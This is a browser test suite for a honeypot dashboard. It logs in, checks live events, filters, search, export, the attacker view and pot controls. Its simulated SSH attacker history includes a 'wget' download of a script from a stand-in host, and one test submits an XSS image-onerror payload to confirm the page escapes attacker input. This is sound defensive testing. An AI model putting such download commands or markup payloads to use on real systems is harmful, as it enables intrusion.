// The web dashboard in headless Chromium against a real core filled by a
// running node (`honeycomb up`): log in, see the node and its pots, watch an
// event arrive live, filter, search and export, open an attacker view, stop
// and start a pot. A screenshot of each page is saved (harness.mjs says
// where); docs/DASHBOARD.md links the committed copies.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import path from 'node:path';
import { readFile } from 'node:fs/promises';
import { chromium } from 'playwright-core';
import { Honeycomb, chromiumBin, ensureScreenshotDir, portOpen, sendEvents, waitFor } from './harness.mjs';

const run = Math.random().toString(36).slice(2, 8);
/// Addresses unique to this run, so assertions never match older rows.
const attackerIp = '203.0.113.77';
const otherIp = '198.51.100.23';
/// The attacker's session on the pot (the attacker view groups by it).
const liveSession = `live-${run}`;

function cowrieSession(ip, session, user, password, commands) {
  const base = { sensor: 'cowrie-01', pot_type: 'cowrie', src_ip: ip, src_port: 40000 + session.length, dst_port: 22, session };
  return [
    { ...base, eventid: 'cowrie.session.connect', message: `New connection: ${ip}` },
    { ...base, eventid: 'cowrie.login.failed', username: 'admin', password: 'admin' },
    { ...base, eventid: 'cowrie.login.success', username: user, password },
    ...commands.map((input) => ({ ...base, eventid: 'cowrie.command.input', input })),
    { ...base, eventid: 'cowrie.session.closed' },
  ];
}

/// A fleet's worth of history: several attackers, credentials and commands.
function history() {
  const records = [];
  const users = ['root', 'admin', 'ubuntu', 'pi', 'oracle', 'test'];
  const passwords = ['123456', 'password', 'raspberry', 'admin123', 'toor', 'qwerty'];
  for (let i = 0; i < 40; i++) {
    const ip = `192.0.2.${10 + (i % 12)}`;
    records.push(...cowrieSession(ip, `s${run}${i}`, users[i % users.length], passwords[(i * 5) % passwords.length],
      ['uname -a', 'cat /proc/cpuinfo', i % 3 ? 'wget http://198.51.100.5/x.sh' : 'cd /tmp']));
  }
  return records;
}

describe('dashboard', { concurrency: false }, () => {
  const hc = new Honeycomb();
  let browser;
  let page;
  let shots;
  const consoleErrors = [];

  async function screenshot(name) {
    await page.screenshot({ path: path.join(shots, `${name}.png`), fullPage: false });
  }
  const byTestId = (id) => page.getByTestId(id);
  async function textOf(id) {
    return (await byTestId(id).first().textContent()) ?? '';
  }

  before(async () => {
    shots = ensureScreenshotDir();
    await hc.start();
    await sendEvents(hc.eventPort, history());
    await hc.waitForStored('pot=cowrie-01&limit=1', 'the history stored');
    browser = await chromium.launch({ executablePath: chromiumBin, args: ['--no-sandbox', '--disable-gpu'] });
    const context = await browser.newContext({ viewport: { width: 1366, height: 768 }, acceptDownloads: true });
    context.setDefaultTimeout(20000);
    page = await context.newPage();
    page.on('console', (msg) => {
      if (msg.type() === 'error') consoleErrors.push(msg.text());
    });
    page.on('pageerror', (err) => consoleErrors.push(String(err)));
  });

  after(async () => {
    await browser?.close();
    await hc.stop();
  });

  test('a wrong token is refused; the right one logs in and the stream goes live', async () => {
    await page.goto(hc.baseUrl + '/');
    await byTestId('token-input').fill('hc_not-a-real-token');
    await byTestId('login-button').click();
    await byTestId('login-error').waitFor();
    await screenshot('login');
    await byTestId('token-input').fill(hc.token);
    await byTestId('login-button').click();
    await byTestId('nodes-table').waitFor();
    await waitFor(async () => (await textOf('ws-status')).includes('live'), { what: 'the WebSocket live' });
    // The token is never in the URL, and stays in this tab's session storage only.
    assert.ok(!page.url().includes(hc.token));
    assert.equal(await page.evaluate(() => sessionStorage.getItem('honeycomb.token')), hc.token);
    assert.equal(await page.evaluate(() => localStorage.length), 0);
  });

  test('the overview shows the node, its pots and the history', async () => {
    const row = byTestId('node-row').first();
    await row.waitFor();
    assert.ok((await row.getAttribute('data-node-name')).length > 0);
    const web = page.locator('[data-testid="pot-status"][data-pot-id="web-01"]');
    await waitFor(async () => (await web.textContent()).includes('Running'), { what: 'web-01 Running on the overview' });
    await waitFor(async () => Number((await textOf('events-total')).replace(/\D/g, '')) >= 40 * 6,
      { what: 'the history counted' });
    await waitFor(async () => (await byTestId('top-usernames').textContent()).includes('root'), { what: 'top usernames' });
    assert.match(await byTestId('top-commands').textContent(), /uname -a/);
    assert.match(await byTestId('by-pot-type').textContent(), /cowrie/);
    await byTestId('events-chart').locator('canvas').first().waitFor();
    await screenshot('overview');
  });

  test('an event arrives live on the overview and the live feed, without a reload', async () => {
    const liveUser = `live-${run}`;
    const before = Number((await textOf('events-total')).replace(/\D/g, ''));
    await sendEvents(hc.eventPort, [{ pot_id: 'cowrie-01', pot_type: 'cowrie', eventid: 'cowrie.login.failed',
      src_ip: attackerIp, session: liveSession, username: liveUser, password: 'p4ss' }]);
    await waitFor(async () => Number((await textOf('events-total')).replace(/\D/g, '')) > before,
      { what: 'the total to grow live' });

    // Preact runs a page's effects after the next animation frame (at most
    // 100 ms later): were the feed's subscription such an effect, an event
    // arriving before it would be lost. Holding animation frames back makes
    // that gap certain, so the feed must be subscribed once it is on screen.
    await page.evaluate(() => {
      window.__raf = window.requestAnimationFrame;
      window.requestAnimationFrame = () => 0;
    });
    await byTestId('nav-live').click();
    await byTestId('live-feed').waitFor();
    await waitFor(async () => (await textOf('ws-status')).includes('live'), { what: 'the feed live' });
    const unique = `/live-${run}`;
    // A real request to the real simple_http pot: pot -> node -> core -> browser.
    const response = await fetch(`http://127.0.0.1:${hc.httpPort}${unique}`);
    await response.text();
    const row = page.locator('[data-testid="event-row"][data-pot-id="web-01"]', { hasText: unique });
    await row.first().waitFor();
    await page.evaluate(() => {
      window.requestAnimationFrame = window.__raf;
    });
    await screenshot('live');
    await row.first().click();
    const raw = byTestId('event-raw');
    await raw.waitFor();
    assert.match(await raw.textContent(), new RegExp(unique.replace('/', '\\/')));
    await screenshot('event-detail');
    await byTestId('detail-close').click();
    await byTestId('event-detail').waitFor({ state: 'detached' });
  });

  test('the live feed filters by source address and pauses', async () => {
    await byTestId('filter-src').fill(attackerIp);
    await byTestId('filter-apply').click();
    // In force once the core confirmed it (the feed then starts over).
    await waitFor(async () => (await textOf('filter-active')).includes(attackerIp), { what: 'the filter confirmed' });
    const tagged = `filtered-${run}`;
    await sendEvents(hc.eventPort, [
      { pot_id: 'cowrie-01', pot_type: 'cowrie', eventid: 'cowrie.command.input', src_ip: otherIp, input: `echo other-${tagged}` },
      { pot_id: 'cowrie-01', pot_type: 'cowrie', eventid: 'cowrie.command.input', src_ip: attackerIp, session: liveSession, input: `echo ${tagged}` },
    ]);
    const feed = byTestId('live-feed');
    await feed.locator(`[data-testid="event-row"][data-src-ip="${attackerIp}"]`, { hasText: tagged }).first().waitFor();
    // Both were sent on one connection, the other first: had the filter let it
    // through, it would be on the page by now.
    await hc.waitForStored(`src=${otherIp}&q=other-${tagged}`, 'the other address stored');
    assert.equal(await feed.locator('[data-testid="event-row"]', { hasText: `other-${tagged}` }).count(), 0);
    const sources = await feed.locator('[data-testid="event-row"]').evaluateAll((rows) => rows.map((r) => r.dataset.srcIp));
    assert.ok(sources.length > 0 && sources.every((ip) => ip === attackerIp), sources.join(','));

    await byTestId('pause').click();
    const pausedTag = `paused-${run}`;
    await sendEvents(hc.eventPort, [{ pot_id: 'cowrie-01', pot_type: 'cowrie', eventid: 'cowrie.command.input',
      src_ip: attackerIp, session: liveSession, input: `echo ${pausedTag}` }]);
    await waitFor(async () => /[1-9]/.test(await textOf('paused-count')), { what: 'the paused counter' });
    assert.equal(await feed.locator('[data-testid="event-row"]', { hasText: pausedTag }).count(), 0);
    await byTestId('pause').click();
    await feed.locator('[data-testid="event-row"]', { hasText: pausedTag }).first().waitFor();

    // A filter the server refuses is explained, not ignored.
    await byTestId('filter-src').fill('300.1.2.3');
    await byTestId('filter-apply').click();
    await waitFor(async () => (await textOf('filter-error')).length > 0, { what: 'the refused filter explained' });
    await byTestId('filter-src').fill('');
    await byTestId('filter-apply').click();
  });

  test('attacker input is shown as text, never run as markup', async () => {
    const username = `<b>${run}</b>`;
    const password = '<img src=x onerror="window.__pwned=1">';
    await sendEvents(hc.eventPort, [{ pot_id: 'cowrie-01', pot_type: 'cowrie', eventid: 'cowrie.login.failed',
      src_ip: attackerIp, session: liveSession, username, password }]);
    const row = byTestId('live-feed').locator('[data-testid="event-row"]', { hasText: username }).first();
    await row.waitFor();
    await row.click();
    // (In the JSON text its quotes are escaped.)
    await waitFor(async () => (await textOf('event-raw')).includes('<img src=x onerror='), { what: 'the raw record, as text' });
    assert.equal(await page.locator('img[src="x"]').count(), 0);
    assert.equal(await page.locator('b', { hasText: run }).count(), 0);
    assert.equal(await page.evaluate(() => window.__pwned), undefined);
    await page.keyboard.press('Escape');
    await byTestId('event-detail').waitFor({ state: 'detached' });
  });

  test('search filters, pages and exports', async () => {
    await byTestId('nav-search').click();
    await byTestId('search-src').fill('192.0.2.10');
    await byTestId('search-event_type').fill('cowrie.command.input');
    await byTestId('search-submit').click();
    const rows = byTestId('search-results').locator('[data-testid="event-row"]');
    // The page showed the newest events before the search: wait for the answer.
    const seen = await waitFor(async () => {
      const found = await rows.evaluateAll((els) => els.map((e) => [e.dataset.srcIp, e.dataset.eventType]));
      return found.length > 0 && found.every(([ip, type]) => ip === '192.0.2.10' && type === 'cowrie.command.input') && found;
    }, { what: 'only the filtered events listed' });
    assert.equal(seen.length, 12); // 4 sessions x 3 commands
    // The filters are in the address (never the token), so a search can be shared.
    assert.match(page.url(), /src=192\.0\.2\.10/);
    assert.ok(!page.url().includes(hc.token));
    await screenshot('search');

    const [download] = await Promise.all([page.waitForEvent('download'), byTestId('export-csv').click()]);
    const csv = await readFile(await download.path(), 'utf8');
    const lines = csv.trim().split(/\r?\n/);
    assert.match(lines[0], /^id,time,received,node_id/);
    assert.equal(lines.length - 1, seen.length);
    assert.ok(lines.slice(1).every((l) => l.includes('192.0.2.10')));

    await byTestId('search-src').fill('192.0.2.250');
    await byTestId('search-submit').click();
    await byTestId('search-empty').waitFor();
    assert.equal(await rows.count(), 0);
  });

  test('the attacker view shows one address across the fleet', async () => {
    await page.goto(`${hc.baseUrl}/#/search?src=${attackerIp}`);
    await byTestId('search-results').locator('[data-testid="ip-link"]', { hasText: attackerIp }).first().click();
    await waitFor(async () => (await textOf('attacker-ip')).includes(attackerIp), { what: 'the attacker page' });
    const count = Number((await textOf('attacker-event-count')).replace(/\D/g, ''));
    const stored = (await hc.api(`/api/v1/attackers/${attackerIp}`)).event_count;
    assert.equal(count, stored);
    await byTestId('attacker-credentials').locator('[data-testid="credential-row"]', { hasText: `live-${run}` }).waitFor();
    assert.match(await byTestId('attacker-commands').textContent(), new RegExp(`filtered-${run}`));
    assert.ok((await textOf('attacker-first-seen')).trim().length > 0);
    assert.match(await byTestId('attacker-sessions').textContent(), new RegExp(liveSession));
    await screenshot('attacker');
  });

  test('a pot is stopped and started from the fleet page, with the node\'s answer shown', async () => {
    await byTestId('nav-fleet').click();
    const pot = page.locator('[data-testid="fleet-pot"][data-pot-id="web-01"]');
    await pot.waitFor();
    await waitFor(async () => (await pot.getByTestId('pot-status-text').textContent()).includes('Running'),
      { what: 'web-01 Running on the fleet page' });
    await pot.getByTestId('pot-stop').click();
    await waitFor(async () => (await byTestId('command-result').getAttribute('data-outcome')) === 'answered',
      { what: 'the node to answer StopPot' });
    await waitFor(async () => (await pot.getByTestId('pot-status-text').textContent()).includes('Stopped'),
      { what: 'web-01 Stopped on the page' });
    await waitFor(async () => !(await portOpen(hc.httpPort)), { what: 'the pot\'s port closed' });
    await screenshot('fleet');

    await pot.getByTestId('pot-start').click();
    await waitFor(async () => (await pot.getByTestId('pot-status-text').textContent()).includes('Running'),
      { what: 'web-01 Running again' });
    await waitFor(() => portOpen(hc.httpPort), { timeout: 30000, what: 'the pot\'s port open again' });

    await byTestId('nav-actions').click();
    const actions = byTestId('actions-log').locator('[data-testid="action-row"]');
    await waitFor(async () => (await actions.count()) >= 2, { what: 'both commands in the actions log' });
    const log = await byTestId('actions-log').textContent();
    assert.ok(log.includes('StopPot') && log.includes('DeployPot'), log);
    // The initial token is admin: the core's audit log is shown too.
    await byTestId('audit-log').locator('[data-testid="audit-row"]', { hasText: 'StopPot' }).first().waitFor();
    await screenshot('actions');
  });

  test('the page raised no script errors', () => {
    // 401s of the wrong-token login are expected console noise from the network layer.
    const unexpected = consoleErrors.filter((e) => !/401|Unauthorized/.test(e));
    assert.deepEqual(unexpected, []);
  });
});
